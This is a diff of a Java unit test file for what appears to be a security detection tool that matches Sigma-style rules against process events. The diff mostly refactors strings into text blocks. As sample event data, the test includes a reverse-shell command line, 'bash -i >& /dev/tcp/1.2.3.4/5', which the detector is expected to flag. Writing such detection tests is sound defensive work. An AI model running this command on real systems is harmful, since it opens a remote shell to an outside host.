@@ -24,6 +24,14 @@ final class DetectCommandTest {
                     + "\"techniques\":[\"T1053.003\"],\"fingerprint\":\"1:b\",\"key\":\"k2\","
                     + "\"traits\":[\"network-tool\",\"inline-script\"]}\n";
 
+    private static final String BAD_RULE = """
+            title: bad
+            logsource: {product: linux}
+            detection:
+              s: {a|odd: 1}
+              condition: s
+            """;
+
     private final StringWriter out = new StringWriter();
     private final StringWriter err = new StringWriter();
 
@@ -40,8 +48,7 @@ final class DetectCommandTest {
 
     @Test
     void anInventoryIsJudgedAsAlreadyThere(@TempDir Path folder) throws IOException {
-        String scan = write(
-                folder, "scan.jsonl", BACKUP + ONE_LINER + "{\"kind\":\"summary\",\"items\":2}\n");
+        String scan = write(folder, "scan.jsonl", BACKUP + ONE_LINER + "{\"kind\":\"summary\",\"items\":2}\n");
         assertEquals(3, run(new DetectCommand(), "--inventory", scan, "--format", "jsonl", "--lang", "en"));
         String[] lines = out.toString().strip().split("\n", -1);
         assertEquals(1, lines.length);
@@ -64,21 +71,22 @@ final class DetectCommandTest {
     @Test
     void eventsAreJudgedWithRulesOfTheUserToo(@TempDir Path folder) throws IOException {
         Path rules = Files.createDirectory(folder.resolve("rules"));
-        write(
-                rules,
-                "whoami.yml",
-                "title: Who am I\nid: x1\nlogsource: {product: windows, category: process_creation}\n"
-                        + "detection:\n  s: {Image|endswith: '\\whoami.exe'}\n  condition: s\nlevel: low\n");
-        write(rules, "bad.yml", "title: bad\nlogsource: {product: linux}\ndetection:\n  s: {a|odd: 1}\n  condition: s\n");
-        String events = write(
-                folder,
-                "events.jsonl",
-                "{\"Channel\":\"Security\",\"EventID\":4688,\"Computer\":\"PC1\",\"NewProcessName\":\"C:\\\\Windows\\\\whoami.exe\"}\n"
-                        + "{\"kind\":\"process-started\",\"sensor\":\"linux.x\",\"Image\":\"/usr/bin/bash\",\"CommandLine\":\"bash -i >& /dev/tcp/1.2.3.4/5\"}\n"
-                        + "no json\n");
-        assertEquals(
-                3,
-                run(new DetectCommand(), "--rules", rules.toString(), "--events", events, "--lang", "fr"));
+        write(rules, "whoami.yml", """
+                title: Who am I
+                id: x1
+                logsource: {product: windows, category: process_creation}
+                detection:
+                  s: {Image|endswith: '\\whoami.exe'}
+                  condition: s
+                level: low
+                """);
+        write(rules, "bad.yml", BAD_RULE);
+        String events = write(folder, "events.jsonl", """
+                {"Channel":"Security","EventID":4688,"NewProcessName":"C:\\\\Windows\\\\whoami.exe"}
+                {"kind":"process-started","sensor":"linux.x","CommandLine":"bash -i >& /dev/tcp/1.2.3.4/5"}
+                no json
+                """);
+        assertEquals(3, run(new DetectCommand(), "--rules", rules.toString(), "--events", events, "--lang", "fr"));
         assertTrue(out.toString().contains("Who am I"));
         assertTrue(out.toString().contains("Un shell a été relié à une connexion réseau"));
         assertTrue(err.toString().contains("bad.yml:4"));
@@ -103,7 +111,7 @@ final class DetectCommandTest {
 
     @Test
     void rulesAreCheckedWithFileLineAndReason(@TempDir Path folder) throws IOException {
-        write(folder, "bad.yml", "title: bad\nlogsource: {product: linux}\ndetection:\n  s: {a|odd: 1}\n  condition: s\n");
+        write(folder, "bad.yml", BAD_RULE);
         assertEquals(3, run(new RulesCommand(), "check", folder.toString(), "--lang", "fr"));
         assertTrue(out.toString().contains("bad.yml:4: modifier 'odd' is not supported"));
         assertTrue(out.toString().contains("0 règles seraient chargées, 1 sont refusées."));
